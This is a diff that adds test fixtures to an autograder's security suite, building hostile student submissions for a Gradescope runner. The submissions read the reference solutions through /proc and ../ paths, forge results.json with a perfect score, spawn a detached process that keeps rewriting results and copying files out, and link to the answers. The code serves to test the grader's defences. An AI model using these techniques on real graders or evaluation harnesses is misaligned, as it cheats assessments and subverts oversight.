@@ -792,3 +792,185 @@ def build_sandbox_class(dest: Path, module: str, *, course: Path, leak: Path, ma
     expected["m_links_module_in_exercises"] = {fn: (ZERO, rf"{module}\.py is a symbolic link, not a regular file") for fn in fns}
     del linked
     return expected
+
+
+# The Gradescope runner's hostile class (issues 31 and 32, on ``/autograder``): one submission per container, graded
+# as root by the bundle's ``run_autograder`` with the live reference in ``<root>/source``. Each student is a dict
+# ``{student: (what to lay out in <root>/submission, expectations)}``; see :func:`build_gradescope_class`.
+
+# Where the bundle's answers are on Gradescope: its live reference and its instructor seed (``gradescope.json``),
+# by their paths, through ``..`` from wherever the student's process runs, through the grader's processes in
+# /proc (pid 1 of the container among them), and the trusted verifier's scratch copies of the course.
+GRADESCOPE_ROUTES = """
+import glob as _glob
+import os as _os
+
+_ROOT = {root!r}
+_SECRETS = ("solutions/{module}.py", "gradescope.json")
+
+
+def _routes():
+    for _secret in _SECRETS:
+        yield _ROOT + "/source/" + _secret
+        yield "/autograder/source/" + _secret
+        yield _ROOT + "/submission/../source/" + _secret
+        for _up in range(1, 12):
+            yield "../" * _up + "source/" + _secret
+            yield "../" * _up + _ROOT.lstrip("/") + "/source/" + _secret
+        for _pattern in ("/proc/1/cwd/{{s}}", "/proc/1/root{{r}}/source/{{s}}", "/proc/*/cwd/{{s}}", "/proc/*/cwd/../{{s}}",
+                         "/proc/*/cwd/../source/{{s}}", "/proc/*/root{{r}}/source/{{s}}",
+                         "/proc/*/root/tmp/autograder-*/course/{{s}}", "/proc/*/cwd/../course/{{s}}"):
+            yield from _glob.glob(_pattern.format(s=_secret, r=_ROOT))
+        for _base in (_ROOT, "/autograder"):
+            for _depth in ("/*/", "/*/*/", "/*/*/*/"):
+                yield from _glob.glob(_base + _depth + _secret)
+        for _base in ("/tmp", "/var/tmp", "/dev/shm"):  # the grader's scratch folders (not the host's other files)
+            yield from _glob.glob(_base + "/autograder-*/**/" + _secret, recursive=True)
+
+
+def _readable():
+    found = set()
+    for _path in _routes():
+        try:
+            with open(_path, "rb") as _f:
+                if _f.read(1):
+                    found.add(_path)
+        except OSError:
+            pass
+    return sorted(found)
+
+
+def _find(name):
+    for _path in _readable():
+        if _path.endswith(".py"):
+            _scope = {{}}
+            try:
+                with open(_path) as _f:
+                    exec(_f.read(), _scope)
+            except Exception:
+                continue
+            if name in _scope:
+                return _scope[name]
+    return None
+"""
+
+# Says what it could read as its failure: a route that works shows up in results.json (nothing must).
+REPORTS_WHAT_IT_READ = "raise RuntimeError('the thief read: ' + (', '.join(_readable()) or 'nothing'))"
+
+# Writes results.json (and the bundle) at import, links the runner's temporary results.json to the bundle, then leaves a double-forked process in a session of its own that
+# rewrites results.json every 0.2 s for 4 minutes (after the runner wrote its own) and copies what it can read of
+# the container into {leak}. Its command line carries {marker}.
+FORGES_RESULTS_LATER = """
+import json as _json
+import os as _os
+import sys as _sys
+
+_FORGED = _json.dumps({{"score": 1000.0, "output": "{marker}", "tests": []}})
+for _path in ({root!r} + "/results/results.json", {root!r} + "/source/course.toml", "/autograder/results/results.json"):
+    try:
+        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
+        with open(_path, "w") as _f:
+            _f.write(_FORGED)
+    except OSError:
+        pass
+try:  # where the results folder is writable: a link where the runner writes its results next, as root
+    _os.symlink({root!r} + "/source/course.toml", {root!r} + "/results/results.json.tmp")
+except OSError:
+    pass
+_LATER = '''
+import glob, os, shutil, time
+end = time.time() + 240
+os.chdir("/")
+while time.time() < end:
+    for path in ({root!r} + "/results/results.json", "/autograder/results/results.json"):
+        try:
+            with open(path, "w") as f:
+                f.write(%r)
+        except OSError:
+            pass
+    try:
+        os.makedirs({leak!r}, exist_ok=True)
+        for p in glob.glob({root!r} + "/*/*.py") + glob.glob({root!r} + "/*/*/*.py") + glob.glob("/proc/*/cwd/*.py"):
+            try:
+                shutil.copy(p, os.path.join({leak!r}, p.replace("/", "_")))
+            except Exception:
+                pass
+    except OSError:
+        pass
+    time.sleep(0.2)
+# {marker}
+''' % _FORGED
+if _os.fork() == 0:
+    try:
+        _os.setsid()
+        if _os.fork() == 0:
+            _os.execv(_sys.executable, [_sys.executable, "-c", _LATER])
+    finally:
+        _os._exit(0)
+"""
+
+
+def build_gradescope_class(module: str, *, roots: dict[str, Path], leak: Path, marker: str) -> dict:
+    """Lay out each hostile student's ``<root>/submission`` (``roots``: ``{student: Gradescope root}``, each with
+    its ``source/`` unpacked and an empty ``submission/``; a process left behind carries ``<marker>-<student>`` in
+    its command line); returns ``{student: {function: (FULL or ZERO, regex)}}``.
+
+    - ``steals_and_forges``: every function answers with the bundle's reference if any route reads it (else wrong),
+      the last one says what it read; at import it writes results.json and the bundle and leaves a process behind
+      that rewrites results.json after the run and copies the container's files into ``leak``, leaves marks in
+      every shared folder and rewrites the kit.
+    - ``snoops_next_to_answers``: the reference, every function reading every route first, with the same import
+      (results.json, the process left behind): it keeps exactly what its answers earn.
+    - ``forges_reports``: issue 32's forgery on the runner: a jit-breaking ``replace_negatives`` and a wrong
+      ``scatter_add`` whose reports (the reporter found through ``gc``, the session's outcomes) say "passed".
+    - links to the bundle's reference: ``exercises -> source/solutions``, the module file linked or hard-linked to
+      it, the submission folder itself a link to ``source/solutions``."""
+    fns = [f.name for f in load_course(ROOT).module(module).functions]
+    ref = reference_source(module)
+    zero = {fn: (ZERO, "") for fn in fns}
+    expected: dict[str, dict[str, tuple[str, str]]] = {}
+
+    def write(student: str, source: str, expect: dict) -> None:
+        (roots[student] / "submission" / f"{module}.py").write_text(source, encoding="utf-8")
+        expected[student] = expect
+
+    if "steals_and_forges" in roots:
+        root = str(roots["steals_and_forges"])
+        routes = GRADESCOPE_ROUTES.format(root=root, module=module)
+        thief = replace(thief_source(module, routes), {fns[-1]: REPORTS_WHAT_IT_READ})
+        thief += FORGES_RESULTS_LATER.format(root=root, leak=str(leak), marker=f"{marker}-steals_and_forges")
+        thief += LEAVES_MARKS_EVERYWHERE.format(student="steals_and_forges") + WRITES_KIT
+        write("steals_and_forges", thief, {**zero, fns[-1]: (ZERO, r"the thief read: nothing")})
+    if "snoops_next_to_answers" in roots:
+        root = str(roots["snoops_next_to_answers"])
+        snooper = ref + GRADESCOPE_ROUTES.format(root=root, module=module) + "\n_snooped = []\n"
+        for fn in fns:  # once per process: what it reads cannot change its (correct) answers
+            snooper = wrap(snooper, fn, f"_snooped or _snooped.append(_find({fn!r}))")
+        snooper += FORGES_RESULTS_LATER.format(root=root, leak=str(leak), marker=f"{marker}-snoops_next_to_answers")
+        write("snoops_next_to_answers", snooper, {fn: (FULL, "") for fn in fns})
+    if "forges_reports" in roots:
+        jit_breaking = "import numpy as _np\ny = _np.array(args[0])\ny[y < 0] = args[1]\nreturn jnp.asarray(y)"
+        bodies = {"replace_negatives": jit_breaking} if "replace_negatives" in fns else {}
+        forger = replace(ref, {**bodies, fns[1]: WRONG}) + FORGES_OUTCOMES + FORGES_REPORTS
+        write("forges_reports", forger, {fn: (ZERO, r"tampering detected") for fn in fns})
+    link_messages = {
+        "links_exercises": r"exercises is a symbolic link, not a folder",
+        "links_module": rf"{module}\.py is a symbolic link, not a regular file",
+        "hard_links_module": rf"{module}\.py is a link to another file \(a hard link\)",
+        "links_submission": r"your submission's folder is a symbolic link",
+    }
+    for student, message in link_messages.items():
+        if student not in roots:
+            continue
+        submission, solutions = roots[student] / "submission", roots[student] / "source" / "solutions"
+        if student == "links_exercises":
+            (submission / "exercises").symlink_to(solutions, target_is_directory=True)
+        elif student == "links_module":
+            (submission / f"{module}.py").symlink_to(solutions / f"{module}.py")
+        elif student == "hard_links_module":
+            os.link(solutions / f"{module}.py", submission / f"{module}.py")
+        else:
+            submission.rmdir()
+            submission.symlink_to(solutions, target_is_directory=True)
+        expected[student] = {fn: (ZERO, message) for fn in fns}
+    return expected
